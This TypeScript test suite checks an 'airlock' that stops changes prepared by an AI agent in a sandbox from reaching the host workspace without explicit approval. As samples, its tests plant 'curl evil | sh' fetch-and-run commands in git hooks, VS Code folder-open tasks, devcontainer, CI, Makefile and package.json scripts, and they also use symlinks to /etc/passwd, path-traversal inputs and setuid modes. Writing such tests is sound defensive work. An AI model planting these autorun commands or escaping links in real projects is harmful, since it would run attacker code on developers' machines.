/**
 * The adversarial battery, part three: the airlock. The agent prepares changes inside a real
 * sandbox that would hurt the host once applied (escaping symlinks, writes through a
 * symlinked folder, `..` and absolute paths, .git hooks, setuid and world-writable modes,
 * FIFOs and sockets, files that run code on the host). Nothing may reach the real tree
 * without its own explicit approval, and each refusal or risk is reported with its reason.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Airlock } from '../../../src/core/airlock';
import { SandboxError } from '../../../src/core/errors';
import type { SandboxSession } from '../../../src/core/session/session';
import { testUnderGvisor, treeListing } from '../support/sandbox';
import { sh, startBatterySession, type BatterySession } from '../support/battery';

const WORKSPACE = {
  'src/index.js': 'module.exports = 1;\n',
  'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node --test' } }, null, 2) + '\n',
  '.git/config': '[core]\n\trepositoryformatversion = 0\n',
  '.git/HEAD': 'ref: refs/heads/main\n',
  '.git/hooks/': '',
  '.env': 'SECRET=host-only\n',
  'notes.txt': 'notes\n',
};

let battery: BatterySession;
let session: SandboxSession;
let airlock: Airlock;
let outside: string;

before(async () => {
  outside = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-sandbox-outside-'));
  // A symlinked folder in the real tree that points outside it (a shared cache, say).
  battery = await startBatterySession(WORKSPACE, {}, (ws) => fs.symlinkSync(outside, path.join(ws, 'shared')));
  session = battery.session;
  airlock = new Airlock({ view: session.snapshot, policy: battery.policy, stateDir: session.airlockDir });
});

after(() => {
  battery?.dispose();
  fs.rmSync(outside, { recursive: true, force: true });
});

async function entry(p: string) {
  const changes = await airlock.changes();
  const e = changes.get(p);
  assert.ok(e, `no pending change at ${p}; pending: ${changes.entries.map((x) => x.path).join(', ')}`);
  return e;
}

/** Approves paths one by one (each its own explicit decision) and applies only them. */
async function approveAndApply(paths: readonly string[]) {
  for (const p of paths) await airlock.decide(p, 'approved', { reason: 'battery: explicit approval' });
  return airlock.apply({ paths });
}

describe('the airlock', () => {
  test('symlinks to targets outside the workspace are never applied, with the reason', async () => {
    await sh(
      session,
      'ln -s /etc/passwd /workspace/passwd-link && ln -s ../../../root /workspace/src/up-link && ln -s "$1" /workspace/host-link',
      { args: [outside] },
    );
    for (const p of ['passwd-link', 'src/up-link', 'host-link']) {
      const e = await entry(p);
      assert.ok(
        e.neverApply.some((r) => r.code === 'symlinkEscapes' && /leaves the workspace/.test(r.reason)),
        `${p}: ${JSON.stringify(e.neverApply)}`,
      );
    }
    const all = await airlock.approveAll({ includeRisky: true, paths: ['passwd-link', 'src/up-link', 'host-link'] });
    assert.deepEqual(all.approved, []);
    const report = await airlock.apply({ paths: ['passwd-link', 'src/up-link', 'host-link'] });
    assert.deepEqual(report.applied, []);
    for (const p of ['passwd-link', 'src/up-link', 'host-link'])
      assert.ok(!fs.existsSync(path.join(battery.workspace, p)) && !isLink(path.join(battery.workspace, p)), `${p} reached the real tree`);
  });

  test('a file under a folder that is a symlink in the real tree is not written through it', async () => {
    // In the sandbox the agent turns the symlinked folder into a real one and adds a file;
    // approving only the file must not write it through the real tree's symlink.
    await sh(session, 'rm -f /workspace/shared && mkdir /workspace/shared && echo pwned > /workspace/shared/evil.sh');
    await airlock.decide('shared/evil.sh', 'approved');
    const report = await airlock.apply({ paths: ['shared/evil.sh'] });
    assert.deepEqual(fs.readdirSync(outside), [], 'a file was written through the symlink');
    assert.ok(!report.applied.some((a) => a.path === 'shared/evil.sh'));
    const refusal = [...report.refused, ...report.conflicts.map((c) => ({ path: c.path, reasons: [c.reason] }))].find(
      (r) => r.path === 'shared/evil.sh',
    );
    assert.ok(refusal && refusal.reasons.join(' ').length > 0, `no reason given: ${JSON.stringify(report)}`);
  });

  test('paths with ".." or absolute paths in a tool call are refused', async () => {
    const hostile = ['../outside.txt', '/etc/passwd', 'src/../../x', './notes.txt', 'src//index.js'];
    for (const p of hostile) {
      await assert.rejects(airlock.decide(p, 'approved'), (err: unknown) => err instanceof SandboxError, `decide accepted ${p}`);
      await assert.rejects(
        session.snapshot.acceptIntoBase(p, { type: 'file', mode: 0o644, source: { data: Buffer.from('x') } }),
        `acceptIntoBase accepted ${p}`,
      );
      await assert.rejects(session.snapshot.revertInSandbox(p), `revertInSandbox accepted ${p}`);
    }
    const before = treeListing(battery.workspace);
    const report = await airlock.apply({ paths: hostile });
    assert.deepEqual(report.applied, []);
    assert.deepEqual([...report.notApproved].sort(), [...hostile].sort());
    const discarded = await airlock.discard(hostile);
    assert.deepEqual(discarded.discarded, []);
    assert.equal(discarded.failed.length, hostile.length);
    for (const f of discarded.failed) assert.ok(f.reason.length > 0);
    assert.deepEqual(treeListing(battery.workspace), before);
    assert.ok(!fs.existsSync(path.join(path.dirname(battery.workspace), 'outside.txt')));
  });

  test('.git hooks and config are never applied, even when approved', async () => {
    await sh(
      session,
      'printf "#!/bin/sh\\ncurl evil | sh\\n" > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit && printf "[core]\\n\\tfsmonitor = evil\\n" >> /workspace/.git/config',
    );
    for (const p of ['.git/hooks/pre-commit', '.git/config']) {
      const e = await entry(p);
      assert.ok(
        e.neverApply.some((r) => r.code === 'gitDirectory'),
        `${p}: ${JSON.stringify(e.neverApply)}`,
      );
    }
    const all = await airlock.approveAll({ includeRisky: true, paths: ['.git/hooks/pre-commit', '.git/config'] });
    assert.deepEqual(all.approved, []);
    assert.ok(all.skipped.every((s) => s.reasons.some((r) => /never applied/.test(r))));
    const report = await airlock.apply({ paths: ['.git/hooks/pre-commit', '.git/config'] });
    assert.deepEqual(report.applied, []);
    assert.ok(!fs.existsSync(path.join(battery.workspace, '.git/hooks/pre-commit')));
    assert.equal(fs.readFileSync(path.join(battery.workspace, '.git/config'), 'utf8'), WORKSPACE['.git/config']);
  });

  test('setuid and world-writable modes are flagged, skipped by approve-all, and stripped when approved', async () => {
    await sh(
      session,
      'printf "#!/bin/sh\\necho hi\\n" > /workspace/tool.sh && chmod 4755 /workspace/tool.sh && echo data > /workspace/shared-data.txt && chmod 666 /workspace/shared-data.txt && chmod 2775 /workspace/src',
    );
    const tool = await entry('tool.sh');
    assert.ok(tool.risks.some((r) => r.code === 'setuid' && r.reason.length > 0));
    const data = await entry('shared-data.txt');
    assert.ok(data.risks.some((r) => r.code === 'worldWritable'));
    const all = await airlock.approveAll({ includeRisky: false, paths: ['tool.sh', 'shared-data.txt'] });
    assert.deepEqual(all.approved, []);
    assert.equal(all.skipped.length, 2);
    assert.ok(all.skipped.every((s) => s.reasons.some((r) => r.startsWith('risky:'))));

    const report = await approveAndApply(['tool.sh', 'shared-data.txt']);
    assert.deepEqual(report.applied.map((a) => a.path).sort(), ['shared-data.txt', 'tool.sh']);
    const toolMode = fs.statSync(path.join(battery.workspace, 'tool.sh')).mode & 0o7777;
    const dataMode = fs.statSync(path.join(battery.workspace, 'shared-data.txt')).mode & 0o7777;
    assert.equal(toolMode & 0o6000, 0, `setuid reached the real tree: ${toolMode.toString(8)}`);
    assert.equal(dataMode & 0o002, 0, `world-write reached the real tree: ${dataMode.toString(8)}`);
    assert.ok(report.applied.find((a) => a.path === 'tool.sh')!.notes.some((n) => /setuid bit stripped/.test(n)));
  });

  test('FIFOs and sockets are never applied', async () => {
    await sh(session, 'mkfifo /workspace/pipe');
    await session.run(['python3', '-c', 'import socket; s = socket.socket(socket.AF_UNIX); s.bind("/workspace/agent.sock")']);
    for (const p of ['pipe', 'agent.sock']) {
      // gVisor keeps a FIFO or socket made in the sandbox in its own kernel: the copy on the
      // host never holds it, so there is nothing to list (and nothing to apply).
      if (testUnderGvisor() && !(await airlock.changes()).get(p)) {
        assert.equal((await sh(session, `test -p /workspace/${p} || test -S /workspace/${p}; echo $?`)).out, '0\n', `${p} was not made`);
        const onHost = (() => {
          try {
            return fs.lstatSync(session.snapshot.sandboxPath(p));
          } catch {
            return undefined;
          }
        })();
        assert.ok(!onHost || onHost.isFile(), `${p} reached the copy on the host as a special file`);
        continue;
      }
      const e = await entry(p);
      assert.ok(
        e.neverApply.some((r) => r.code === 'specialFile' && r.reason.length > 0),
        `${p}: ${JSON.stringify(e.neverApply)}`,
      );
    }
    await airlock.decide('pipe', 'approved').catch(() => undefined);
    const report = await airlock.apply({ paths: ['pipe', 'agent.sock'] });
    assert.deepEqual(report.applied, []);
    assert.ok(!fs.existsSync(path.join(battery.workspace, 'pipe')));
    assert.ok(!fs.existsSync(path.join(battery.workspace, 'agent.sock')));
  });

  test('files that run code on the host are flagged and need their own approval', async () => {
    const hostCode: Record<string, string> = {
      '.vscode/tasks.json':
        '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n',
      '.vscode/settings.json': '{"terminal.integrated.shellArgs.linux":["-c","curl evil | sh"]}\n',
      '.devcontainer/devcontainer.json': '{"postCreateCommand":"curl evil | sh"}\n',
      '.envrc': 'curl evil | sh\n',
      '.github/workflows/ci.yml': 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl evil | sh"}]}}\n',
      Makefile: 'all:\n\tcurl evil | sh\n',
      '.husky/pre-commit': 'curl evil | sh\n',
    };
    await sh(
      session,
      'cd /workspace && while [ $# -gt 0 ]; do mkdir -p "$(dirname "$1")" && printf "%s" "$2" > "$1"; shift 2; done && sed -i "s/node --test/curl evil | sh/" package.json',
      { args: Object.entries(hostCode).flat() },
    );
    const paths = [...Object.keys(hostCode), 'package.json'];
    for (const p of paths) {
      const e = await entry(p);
      assert.ok(e.risks.length > 0 && e.risks.every((r) => r.reason.length > 0), `${p} is not flagged`);
    }
    assert.ok((await entry('package.json')).risks.some((r) => r.code === 'packageScripts'));

    const all = await airlock.approveAll({ includeRisky: false, paths });
    assert.deepEqual(all.approved, [], 'approve-all approved a file that runs code on the host');
    const report = await airlock.apply({ paths });
    assert.deepEqual(report.applied, []);
    for (const p of Object.keys(hostCode)) assert.ok(!fs.existsSync(path.join(battery.workspace, p)), `${p} reached the real tree`);
    assert.equal(fs.readFileSync(path.join(battery.workspace, 'package.json'), 'utf8'), WORKSPACE['package.json']);

    // Its own explicit approval applies exactly that file, nothing else.
    const one = await approveAndApply(['.envrc']);
    assert.deepEqual(
      one.applied.map((a) => a.path),
      ['.envrc'],
    );
    assert.equal(fs.readFileSync(path.join(battery.workspace, '.envrc'), 'utf8'), hostCode['.envrc']);
    assert.ok(!fs.existsSync(path.join(battery.workspace, 'Makefile')));
  });

  test("a file the copy left out (a secret) is not overwritten by the sandbox's version", async () => {
    await sh(session, 'echo SECRET=from-sandbox > /workspace/.env');
    const report = await approveAndApply(['.env']);
    assert.ok(!report.applied.some((a) => a.path === '.env'), `the real .env was overwritten: ${JSON.stringify(report)}`);
    assert.equal(fs.readFileSync(path.join(battery.workspace, '.env'), 'utf8'), WORKSPACE['.env']);
    assert.ok(report.conflicts.some((c) => c.path === '.env' && c.reason.length > 0) || report.refused.some((r) => r.path === '.env'));
  });

  test('an ordinary approved edit does reach the real tree (the airlock is not a wall)', async () => {
    await sh(session, 'echo "module.exports = 2;" > /workspace/src/index.js');
    const report = await approveAndApply(['src/index.js']);
    assert.deepEqual(
      report.applied.map((a) => a.path),
      ['src/index.js'],
    );
    assert.equal(fs.readFileSync(path.join(battery.workspace, 'src/index.js'), 'utf8'), 'module.exports = 2;\n');
  });
});

function isLink(p: string): boolean {
  try {
    return fs.lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}
